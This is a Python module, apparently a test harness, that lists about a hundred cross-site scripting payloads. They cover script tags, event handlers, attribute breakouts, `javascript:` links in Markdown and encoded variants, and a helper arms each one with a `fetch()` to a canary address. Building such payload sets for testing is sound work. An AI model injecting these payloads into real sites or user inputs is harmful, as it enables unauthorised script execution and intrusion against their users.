"""A hundred ways to make a page run what it should only show; `armed` gives each its own canary."""

from __future__ import annotations

# RUN is replaced by a statement, GET by an address.
_HTML = (
    "<script>RUN</script>",
    "<ScRiPt>RUN</sCrIpT>",
    "<script src=GET></script>",
    "<script src='GET' async defer></script>",
    "<script type=module>RUN</script>",
    "<script/x>RUN</script>",
    "<script\n>RUN</script\n>",
    "<script\x00>RUN</script>",
    "<scr<script>ipt>RUN</scr</script>ipt>",
    "</title><script>RUN</script>",
    "</textarea><script>RUN</script>",
    "</script><script>RUN</script>",
    "--><script>RUN</script>",
    "]]><script>RUN</script>",
    "</style><script>RUN</script>",
    "</noscript><script>RUN</script>",
    "<!--[if true]><script>RUN</script><![endif]-->",
    "<img src=x onerror=RUN>",
    "<img src=x onerror='RUN'>",
    '<img src=x onerror="RUN">',
    "<img/src=x/onerror=RUN>",
    "<img src=GET>",
    "<IMG SRC=x ONERROR=RUN>",
    "<img src=x\tonerror\n=\rRUN>",
    "<img src=`x` onerror=RUN>",
    "<img srcset=GET>",
    "<image src=x onerror=RUN>",
    "<svg onload=RUN>",
    "<svg/onload=RUN>",
    "<svg><script>RUN</script></svg>",
    "<svg><script href=GET /></svg>",
    "<svg><image href=GET /></svg>",
    "<svg><animate onbegin=RUN attributeName=x dur=1s>",
    "<svg><set onbegin=RUN attributeName=x>",
    "<svg><a xlink:href=javascript:RUN><text y=20>x</text></a></svg>",
    "<svg><foreignObject><body onload=RUN></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=RUN></svg>#x'/></svg>",
    "<math><mtext><img src=x onerror=RUN></mtext></math>",
    "<math href='javascript:RUN'>x</math>",
    "<body onload=RUN>",
    "<body onpageshow=RUN>",
    "<iframe src='javascript:RUN'></iframe>",
    "<iframe srcdoc='<script>parent.RUN</script>'></iframe>",
    "<iframe src=GET></iframe>",
    "<iframe onload=RUN></iframe>",
    "<object data='javascript:RUN'></object>",
    "<object data=GET></object>",
    "<embed src=GET>",
    "<input autofocus onfocus=RUN>",
    "<select autofocus onfocus=RUN><option>x</select>",
    "<textarea autofocus onfocus=RUN></textarea>",
    "<button autofocus onfocus=RUN>x</button>",
    "<details open ontoggle=RUN><summary>x</summary></details>",
    "<video src=x onerror=RUN></video>",
    "<video><source onerror=RUN></video>",
    "<audio src=x onerror=RUN></audio>",
    "<video poster=GET></video>",
    "<link rel=stylesheet href=GET>",
    "<link rel=prefetch href=GET>",
    "<style>@import 'GET';</style>",
    "<style>*{background:url(GET)}</style>",
    "<div style='background:url(GET)'>x</div>",
    "<div style=animation-name:x onanimationstart=RUN>x</div>",
    "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=RUN>x</b>",
    "<base href=GET>",
    "<meta http-equiv=refresh content='0;url=GET'>",
    "<meta http-equiv=refresh content='0;url=javascript:RUN'>",
    "<form action=GET><input type=submit autofocus></form>",
    "<marquee onstart=RUN>x</marquee>",
    "<p contenteditable autofocus onfocus=RUN tabindex=0>x</p>",
    "<template><script>RUN</script></template>",
    "<template shadowrootmode=open><img src=x onerror=RUN></template>",
    "<noscript><p title='</noscript><img src=x onerror=RUN>'>",
    "<table background=GET><tr><td background=GET>x</table>",
    "<dialog open onclose=RUN><img src=x onerror=RUN></dialog>",
    "<xss autofocus tabindex=1 onfocus=RUN></xss>",
    "<a href=javascript:RUN>x</a>",
)
_ATTRIBUTE = (
    '"><img src=x onerror=RUN>',
    "'><img src=x onerror=RUN>",
    '" onmouseover="RUN" autofocus onfocus="RUN',
    "' autofocus tabindex=1 onfocus='RUN",
    "` onerror=RUN ",
    '"></a><svg onload=RUN>',
    "javascript:RUN",
    "JaVaScRiPt:RUN",
    "java\tscript:RUN",
    "data:text/html,<script>RUN</script>",
)
_MARKDOWN = (
    "[x](javascript:RUN)",
    "[x](JAVASCRIPT:RUN 'title')",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:RUN)",
    '![x](x"onerror="RUN)',
    "![x](GET)",
    "<javascript:RUN>",
    "[x]: javascript:RUN\n\n[x]",
    "`</code><script>RUN</script>`",
    "```html\n</code></pre><script>RUN</script>\n```",
)
_OTHER = (
    "\u2028<script>RUN</script>\u2029",
    "\uff1cscript\uff1eRUN\uff1c/script\uff1e",
    "&lt;img src=x onerror=RUN&gt;",
    "&#60;script&#62;RUN&#60;/script&#62;",
    "{{constructor.constructor('RUN')()}}",
    "${RUN}",
)
PAYLOADS = (*_HTML, *_ATTRIBUTE, *_MARKDOWN, *_OTHER)


def armed(canary: str, field: str = "") -> list[str]:
    """Return every payload; if it runs, it reports its number to the canary and to the page."""
    made: list[str] = []
    for number, payload in enumerate(PAYLOADS):
        address = f"{canary}/{field}{number}"
        run = f"window.__pwned=1;fetch(`{address}`)"
        made.append(payload.replace("RUN", run).replace("GET", address))
    return made


def short(number: int) -> str:
    """A payload without slashes and blanks, for the names of files and branches."""
    return f"<img src=x onerror=window.__pwned={number}>".replace(" ", "\t" if number % 2 else "+")
